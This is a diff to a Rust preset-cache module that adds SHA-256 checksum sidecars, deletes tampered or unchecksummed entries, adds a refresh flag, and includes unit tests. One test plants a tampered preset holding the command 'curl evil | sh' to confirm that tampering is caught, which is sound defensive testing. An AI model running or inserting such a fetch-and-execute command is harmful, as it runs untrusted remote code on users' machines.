@@ -1,12 +1,26 @@
 use std::collections::HashMap;
 use std::fs;
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
+use std::sync::atomic::{AtomicBool, Ordering};
 use std::time::{SystemTime, UNIX_EPOCH};
 
 use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
 
 const FRESHNESS_TTL_SECS: u64 = 3600;
 
+static REFRESH: AtomicBool = AtomicBool::new(false);
+
+/// Bypass cached preset reads (`--refresh-presets`). Fetched presets are still
+/// written back, so the next run without the flag reuses them.
+pub fn set_refresh(refresh: bool) {
+    REFRESH.store(refresh, Ordering::Relaxed);
+}
+
+pub fn is_refreshing() -> bool {
+    REFRESH.load(Ordering::Relaxed)
+}
+
 #[derive(Debug, Clone, Serialize, Deserialize, Default)]
 struct CacheMeta {
     branches: HashMap<String, BranchMeta>,
@@ -36,26 +50,68 @@ fn meta_path(repo: &str) -> Result<PathBuf, String> {
     Ok(repo_cache_dir(repo)?.join("_meta.json"))
 }
 
-pub fn read_cached(repo: &str, sha: &str, path: &str) -> Option<String> {
-    let file = cached_file_path(repo, sha, path).ok()?;
-    fs::read_to_string(file).ok()
+/// Sidecar holding the hex SHA-256 of a cached preset file.
+fn digest_path(file: &Path) -> PathBuf {
+    let mut raw = file.as_os_str().to_owned();
+    raw.push(".sha256");
+    PathBuf::from(raw)
 }
 
-pub fn write_cached(repo: &str, sha: &str, path: &str, content: &str) -> Result<(), String> {
-    let file = cached_file_path(repo, sha, path)?;
+fn content_digest(content: &str) -> String {
+    hex::encode(Sha256::digest(content.as_bytes()))
+}
+
+/// Read a cached file, returning `None` (and deleting the entry) when its
+/// digest sidecar is missing or does not match, so the caller refetches.
+fn read_verified(file: &Path) -> Option<String> {
+    let content = fs::read_to_string(file).ok()?;
+    let expected = fs::read_to_string(digest_path(file)).ok();
+    if expected.as_deref().map(str::trim) == Some(content_digest(&content).as_str()) {
+        return Some(content);
+    }
+    tracing::warn!(
+        "Discarding preset cache entry with bad checksum: {}",
+        file.display()
+    );
+    let _ = fs::remove_file(file);
+    let _ = fs::remove_file(digest_path(file));
+    None
+}
+
+fn write_verified(file: &Path, content: &str) -> Result<(), String> {
     let parent = file
         .parent()
         .ok_or_else(|| "Invalid cache path".to_string())?;
     fs::create_dir_all(parent)
         .map_err(|e| format!("Failed to create cache directory {}: {e}", parent.display()))?;
 
-    // Atomic write: write to temp path, then rename
+    // Atomic writes: write to temp path, then rename. Content lands first so a
+    // crash in between leaves a stale digest, which reads as a cache miss.
     let tmp = file.with_extension("tmp");
     fs::write(&tmp, content).map_err(|e| format!("Failed to write cache file: {e}"))?;
-    fs::rename(&tmp, &file).map_err(|e| format!("Failed to rename cache file: {e}"))?;
+    fs::rename(&tmp, file).map_err(|e| format!("Failed to rename cache file: {e}"))?;
+    let digest_file = digest_path(file);
+    let digest_tmp = digest_file.with_extension("tmp");
+    fs::write(&digest_tmp, content_digest(content))
+        .map_err(|e| format!("Failed to write cache checksum: {e}"))?;
+    fs::rename(&digest_tmp, &digest_file)
+        .map_err(|e| format!("Failed to rename cache checksum: {e}"))?;
     Ok(())
 }
 
+pub fn read_cached(repo: &str, sha: &str, path: &str) -> Option<String> {
+    if is_refreshing() {
+        return None;
+    }
+    let file = cached_file_path(repo, sha, path).ok()?;
+    read_verified(&file)
+}
+
+pub fn write_cached(repo: &str, sha: &str, path: &str, content: &str) -> Result<(), String> {
+    let file = cached_file_path(repo, sha, path)?;
+    write_verified(&file, content)
+}
+
 fn now_secs() -> u64 {
     SystemTime::now()
         .duration_since(UNIX_EPOCH)
@@ -111,6 +167,9 @@ pub fn update_freshness(repo: &str, branch: &str, sha: &str) -> Result<(), Strin
 
 /// Scan all cached SHAs for any version of this path. Returns (sha, content).
 pub fn find_any_cached(repo: &str, path: &str) -> Option<(String, String)> {
+    if is_refreshing() {
+        return None;
+    }
     let base = repo_cache_dir(repo).ok()?;
     let entries = fs::read_dir(&base).ok()?;
     for entry in entries.flatten() {
@@ -120,7 +179,7 @@ pub fn find_any_cached(repo: &str, path: &str) -> Option<(String, String)> {
             continue;
         }
         let file = base.join(sha).join(path);
-        if let Ok(content) = fs::read_to_string(&file) {
+        if let Some(content) = read_verified(&file) {
             return Some((sha.to_string(), content));
         }
     }
@@ -153,6 +212,45 @@ mod tests {
         assert_eq!(read_back, content);
     }
 
+    #[test]
+    fn verified_read_returns_written_content() {
+        let tmp = tempfile::TempDir::new().unwrap();
+        let file = tmp.path().join("sha1").join("presets/javascript.toml");
+        let content = "[vite]\ndev = [\"vite\", \"dev\"]\n";
+
+        write_verified(&file, content).unwrap();
+        assert_eq!(read_verified(&file).as_deref(), Some(content));
+    }
+
+    #[test]
+    fn verified_read_misses_when_entry_is_absent() {
+        let tmp = tempfile::TempDir::new().unwrap();
+        assert!(read_verified(&tmp.path().join("presets/javascript.toml")).is_none());
+    }
+
+    #[test]
+    fn verified_read_discards_tampered_entry() {
+        let tmp = tempfile::TempDir::new().unwrap();
+        let file = tmp.path().join("sha1").join("presets/javascript.toml");
+        write_verified(&file, "[vite]\ndev = [\"vite\"]\n").unwrap();
+        fs::write(&file, "[vite]\ndev = [\"curl evil | sh\"]\n").unwrap();
+
+        assert!(read_verified(&file).is_none());
+        assert!(!file.exists());
+        assert!(!digest_path(&file).exists());
+    }
+
+    #[test]
+    fn verified_read_discards_entry_without_checksum() {
+        let tmp = tempfile::TempDir::new().unwrap();
+        let file = tmp.path().join("presets/javascript.toml");
+        fs::create_dir_all(file.parent().unwrap()).unwrap();
+        fs::write(&file, "[vite]\n").unwrap();
+
+        assert!(read_verified(&file).is_none());
+        assert!(!file.exists());
+    }
+
     #[test]
     fn meta_round_trip() {
         let tmp = tempfile::TempDir::new().unwrap();